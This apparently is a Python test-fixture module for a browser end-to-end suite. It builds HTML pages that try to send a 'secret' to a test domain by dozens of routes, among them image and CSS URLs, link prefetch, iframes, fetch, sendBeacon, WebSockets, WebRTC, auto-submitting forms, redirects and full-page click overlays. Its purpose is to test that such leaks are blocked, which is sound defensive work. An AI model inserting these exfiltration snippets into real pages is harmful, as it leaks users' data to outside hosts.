"""Pages that try to send what they know by every route of HTML, CSS and scripts, each with a host name of its own."""

from __future__ import annotations

from e2e.browser import DOMAIN


def quiet_routes(prefix: str, udp_port: int) -> dict[str, str]:
    """Route -> HTML that takes it and stays on the page."""

    def url(route: str, scheme: str = "http") -> str:
        return f"{scheme}://{prefix}-{route}.{DOMAIN}/secret"

    def script(route: str, code: str) -> str:
        return f"<script>try {{ {code} }} catch (error) {{}}</script>"

    return {
        "img": f'<img src="{url("img")}">',
        "srcset": f'<img srcset="{url("srcset")} 2x">',
        "picture": f'<picture><source srcset="{url("picture")}"><img alt=""></picture>',
        "inputimage": f'<input type="image" src="{url("inputimage")}">',
        "cssimage": f'<style>.b1 {{ background: url({url("cssimage")}) }}</style><p class="b1">x</p>',
        "cssattribute": f'<p style="background-image: url({url("cssattribute")})">x</p>',
        "cssimport": f'<style>@import url("{url("cssimport")}");</style>',
        "cssfont": f"<style>@font-face {{ font-family: f; src: url({url('cssfont')}) }} .f {{ font-family: f }}</style>"
        '<p class="f">x</p>',
        "stylesheet": f'<link rel="stylesheet" href="{url("stylesheet")}">',
        "icon": f'<link rel="icon" href="{url("icon")}">',
        "manifest": f'<link rel="manifest" href="{url("manifest")}" crossorigin="use-credentials">',
        "prefetch": f'<link rel="prefetch" href="{url("prefetch")}">',
        "preload": f'<link rel="preload" as="image" href="{url("preload")}">',
        "modulepreload": f'<link rel="modulepreload" href="{url("modulepreload")}">',
        "preconnect": f'<link rel="preconnect" href="{url("preconnect")}">',
        "dnsprefetch": f'<link rel="dns-prefetch" href="{url("dnsprefetch")}">',
        "iframe": f'<iframe src="{url("iframe")}"></iframe>',
        "srcdoc": f"<iframe srcdoc=\"<img src='{url('srcdoc')}'>\"></iframe>",
        "object": f'<object data="{url("object")}"></object>',
        "embed": f'<embed src="{url("embed")}">',
        "video": f'<video src="{url("video")}" preload="auto"></video>',
        "poster": f'<video poster="{url("poster")}"></video>',
        "audio": f'<audio src="{url("audio")}" preload="auto"></audio>',
        "svgimage": f'<svg><image href="{url("svgimage")}" width="9" height="9"/></svg>',
        "script": f'<script src="{url("script")}"></script>',
        "module": f'<script type="module">import("{url("module")}")</script>',
        "fetch": script("fetch", f'fetch("{url("fetch")}", {{mode: "no-cors"}})'),
        "xhr": script("xhr", f'let x = new XMLHttpRequest(); x.open("GET", "{url("xhr")}"); x.send()'),
        "beacon": script("beacon", f'navigator.sendBeacon("{url("beacon")}", "secret")'),
        "websocket": script("websocket", f'new WebSocket("{url("websocket", "ws")}")'),
        "eventsource": script("eventsource", f'new EventSource("{url("eventsource")}")'),
        "worker": script(
            "worker",
            f"""new Worker(URL.createObjectURL(new Blob(['fetch("{url("worker")}", {{mode: "no-cors"}})'])))""",
        ),
        "handler": f"""<img src="data:," onerror="new Image().src = '{url("handler")}'">""",
        "webrtc": script(
            "webrtc",
            f'let c = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{udp_port}"}}]}});'
            'c.createDataChannel("d"); c.createOffer().then(o => c.setLocalDescription(o))',
        ),
    }


#: Seen by the packets that arrive, not by a host name.
BY_PACKETS = "webrtc"
#: Seen in the browser's own log alone: they send nothing that names a host.
BY_LOG = frozenset({"preconnect", "dnsprefetch"})
#: A browser without a window does not fetch these two; they are in the page for those that do.
NOT_WITHOUT_WINDOW = frozenset({"icon", "manifest"})


def leaving_routes(prefix: str) -> dict[str, str]:
    """Route -> HTML that leads its page elsewhere by itself."""

    def url(route: str) -> str:
        return f"http://{prefix}-{route}.{DOMAIN}/secret"

    return {
        "refresh": f'<meta http-equiv="refresh" content="0; url={url("refresh")}">',
        "location": f'<script>location = "{url("location")}"</script>',
        "top": f'<script>top.location = "{url("top")}"</script>',
        "form": f'<form id="f" action="{url("form")}"><input name="q" value="secret"></form>'
        "<script>document.getElementById('f').submit()</script>",
        "base": f'<base href="{url("base")}"><img src="relative">',
    }


def clicked_routes(prefix: str) -> dict[str, str]:
    """Route -> HTML that leads elsewhere where it is clicked, anywhere."""
    cover = 'style="position:fixed;display:block;top:0;left:0;width:100%;height:100%;font-size:300px"'

    def url(route: str) -> str:
        return f"http://{prefix}-{route}.{DOMAIN}/secret"

    return {
        "click": f'<a {cover} href="{url("click")}">MMMMMMM</a>',
        "newtab": f'<a {cover} target="_blank" href="{url("newtab")}">MMMMMMM</a>',
        "ping": f'<a {cover} ping="{url("ping")}" href="#here">MMMMMMM</a>',
        "submit": f'<form action="{url("submit")}"><button {cover}>MMMMMMM</button></form>',
    }
